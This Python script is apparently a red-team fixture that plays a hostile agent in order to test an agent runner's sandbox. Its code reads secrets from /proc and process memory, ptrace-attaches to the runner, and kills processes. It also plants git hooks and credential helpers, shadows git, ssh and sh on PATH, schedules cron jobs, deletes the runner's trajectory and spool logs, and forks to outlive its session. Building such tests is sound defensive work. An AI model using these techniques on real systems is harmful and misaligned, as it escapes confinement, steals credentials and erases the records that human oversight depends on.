"""A hostile agent: it hunts for secrets, speaks in another's name, and waits for the push.

Run in the agent's checkout as `python3 hunter.py <where to note> <patterns> [hunt | daytona]`; the
patterns are hex, so that the hunter does not find itself; with `hunt` it only looks, with `daytona`
there is a daemon to be asked. Whatever it gets hold of, it notes in a file `found`.
"""

import ctypes
import os
import pwd
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

PTRACE_ATTACH = 16
PIECE = 1 << 20
LONG = 20.0
"""Seconds that the one in the background waits for a push."""


def main(notes: Path, patterns: list[bytes], *, only_hunts: bool, is_in_daytona: bool) -> None:
    """One attack after the other; none may end the hunt."""
    report(notes, "begun")
    background(notes, patterns)
    hunt(notes, patterns)
    if only_hunts:
        return
    if is_in_daytona:
        ask_daemon(notes)
    for attack in (trace, limit, kill, plant, shadow, silence, replace_checkout, schedule):
        with suppress(OSError, subprocess.SubprocessError):
            attack(notes)
    report(notes, "ended")


def report(notes: Path, text: str) -> None:
    """That this program has run, as a whole."""
    with (notes / "attacks").open("a") as file:
        file.write(f"{text}\n")


def note(notes: Path, text: str) -> None:
    """It has worked."""
    with (notes / "found").open("a") as file:
        file.write(f"{text}\n")


def hunt(notes: Path, patterns: list[bytes]) -> None:
    """Every process, and every file of ours around the checkout."""
    for path in (*of_processes(notes), *around()):
        with suppress(OSError):
            pieces = memory(path) if path.name == "mem" else [read(path)]
            if any(pattern in piece for piece in pieces for pattern in patterns):
                note(notes, f"a secret in {path}")


def of_processes(notes: Path) -> Iterator[Path]:
    """Secrets in /proc: of this process its variables, for its memory and arguments hold the same
    patterns."""
    yield Path("/proc/self/environ")
    ours = {str(os.getpid()), (notes / "waiting").read_text()}
    for process in Path("/proc").glob("[0-9]*"):
        if process.name in ours:
            continue
        yield from (process / name for name in ("environ", "cmdline", "mem", "auxv", "maps"))
        with suppress(OSError):
            yield from (process / "fd").iterdir()


def around() -> Iterator[Path]:
    """The state directory, its neighbours, and what lies above."""
    state = Path.cwd().parents[1]
    for top in (state, state.parent):
        for root, _, names in os.walk(top):
            if not Path(root).is_relative_to(Path.cwd()):
                yield from (Path(root, name) for name in names)


def read(path: Path) -> bytes:
    """The beginning of a file."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    with os.fdopen(descriptor, "rb", buffering=0) as file:
        return file.read(PIECE) or b""


def memory(path: Path) -> Iterator[bytes]:
    """The memory of a process, found by its map."""
    with path.open("rb", buffering=0) as file:
        for row in path.with_name("maps").read_text().splitlines():
            start, end = (int(part, 16) for part in row.split()[0].split("-"))
            with suppress(OSError, ValueError, OverflowError):
                file.seek(start)
                yield file.read(min(end - start, 8 * PIECE)) or b""


def parents() -> list[int]:
    """Our reaper, the runner, and its supervisor."""
    found, process = [], os.getppid()
    while process > 1:
        found.append(process)
        stat = Path(f"/proc/{process}/stat").read_text()
        process = int(stat.rpartition(")")[2].split()[1])
    others = [each for each in found if "sh" not in Path(f"/proc/{each}/comm").read_text()]
    return others[:3]


def trace(notes: Path) -> None:
    """Into the memory of the runner."""
    for process in parents():
        if ctypes.CDLL(None).ptrace(PTRACE_ATTACH, process, 0, 0) == 0:
            note(notes, f"attached to {process}")


def ask_daemon(notes: Path) -> None:
    """It runs whatever it is asked to; whether one listens here or not, no way leads to it."""
    for port in (2280, 22220, 22222, 33333):
        try:
            socket.create_connection(("127.0.0.1", port)).close()
        except PermissionError:
            continue
        except OSError:
            pass
        note(notes, f"a way to port {port}")


def limit(notes: Path) -> None:
    """A runner that may open no file any more is silent."""
    for process in parents():
        with suppress(OSError):
            resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3))
            note(notes, f"limited {process}")


def kill(notes: Path) -> None:
    """Signal the processes above, then all others of our user. As root only those of this attempt
    are tried."""
    others = [int(each.name) for each in Path("/proc").glob("[0-9]*")] if os.getuid() else []
    ours = {os.getpid(), int((notes / "waiting").read_text()), os.getsid(0)}
    for process in dict.fromkeys((*parents(), *others)):
        with suppress(OSError):
            if process not in ours:
                os.kill(process, signal.SIGKILL)
                note(notes, f"killed {process}")


def plant(notes: Path) -> None:
    """Configuration that a later git may read."""
    workdir = Path.cwd().parent
    script = f"#!/bin/sh\necho a hook ran >> {notes}/found\n"
    own = Path.cwd() / ".git"
    for git in (own, workdir / ".git", workdir.parent / ".git", *workdir.parent.glob("*/*/.git")):
        with suppress(OSError):
            (git / "hooks").mkdir(parents=True, exist_ok=True)
            for name in ("pre-push", "pre-commit", "post-checkout", "reference-transaction"):
                (git / "hooks" / name).write_text(script)
                (git / "hooks" / name).chmod(0o755)
            with (git / "config").open("a") as config:
                config.write(f'[core]\n\tfsmonitor = "echo fsmonitor >> {notes}/found"\n')
                config.write(f'[filter "x"]\n\tclean = "echo filter >> {notes}/found"\n')
                config.write(f'[credential]\n\thelper = "!cat >> {notes}/found"\n')
            (git / "info").mkdir(exist_ok=True)
            (git / "info" / "attributes").write_text("* filter=x\n")
            if git != own:
                note(notes, f"planted {git}")


def shadow(notes: Path) -> None:
    """Programs and settings that somebody else may take for the real ones."""
    script = f"#!/bin/sh\necho $0 ran >> {notes}/found\n"
    homes = [
        Path.home(),
        *(Path(user.pw_dir) for user in pwd.getpwall() if user.pw_uid in (0, os.getuid())),
    ]
    for home in homes:
        with suppress(OSError):
            (home / ".gitconfig").write_text(f"[core]\n\tfsmonitor = echo x >> {notes}/found\n")
            if home != Path.home():
                note(notes, f"configured {home}")
    for folder in (Path("bin"), Path(), *map(Path, os.environ["PATH"].split(":"))):
        with suppress(OSError):
            if folder.is_relative_to(Path.home()):
                continue
            folder.mkdir(exist_ok=True)
            for name in ("git", "ssh", "sh", "git-remote-https"):
                if not (folder / name).exists():
                    (folder / name).write_text(script)
                    (folder / name).chmod(0o755)
            if folder.is_absolute() and (folder / "git-remote-https").read_bytes()[:2] == b"#!":
                note(notes, f"shadowed {folder}")


def silence(notes: Path) -> None:
    """Cut off what the runner reports."""
    spool = Path.cwd().parents[1] / "spool.jsonl"
    with suppress(OSError):
        spool.unlink()
        spool.mkdir()
        (spool / "x").touch()
        note(notes, "the spool is a folder")
    for name in ("spool.acknowledged", "work.json", "lock", "trajectory.json"):
        with suppress(OSError):
            (spool.parent / name).unlink()
            (spool.parent / name).symlink_to("/etc/passwd")
            note(notes, f"{name} is a link")
    with suppress(OSError):
        shutil.rmtree(spool.parent)
    with suppress(OSError):
        spool.chmod(0)
        spool.parent.chmod(0)


def replace_checkout(notes: Path) -> None:
    """By a link to somewhere else."""
    checkout = Path.cwd()
    with suppress(OSError):
        checkout.rename(checkout.with_name("away"))
        checkout.symlink_to("/etc")
        note(notes, "the checkout is a link")


def schedule(notes: Path) -> None:
    """For later, by somebody else."""
    for words in (["crontab", "-"], ["at", "now"], ["batch"]):
        with suppress(FileNotFoundError):
            line = f"* * * * * echo scheduled >> {notes}/found\n"
            subprocess.run(words, input=line, text=True, capture_output=True, check=False)


def background(notes: Path, patterns: list[bytes]) -> None:
    """Out of the session, forked twice: until the push, to read its password or change a file."""
    if child := os.fork():
        os.waitpid(child, 0)
        return
    os.setsid()
    if waiting := os.fork():
        (notes / "waiting").write_text(str(waiting))
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    ends_at = time.monotonic() + LONG
    while time.monotonic() < ends_at:
        time.sleep(0.01)
        for process in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                content = read(process / "environ")
                if any(pattern in content for pattern in patterns):
                    note(notes, f"a secret in {process}, late")
        for file in Path.cwd().parents[1].glob("work-*/checkout/widgets.py"):
            with suppress(OSError):
                if not file.is_relative_to(Path.cwd()):
                    file.write_text("altered\n")
                    note(notes, f"altered {file}")
    os._exit(0)


if __name__ == "__main__":
    main(
        Path(sys.argv[1]),
        [bytes.fromhex(word) for word in sys.argv[2].split(",")],
        only_hunts=sys.argv[3:] == ["hunt"],
        is_in_daytona=sys.argv[3:] == ["daytona"],
    )
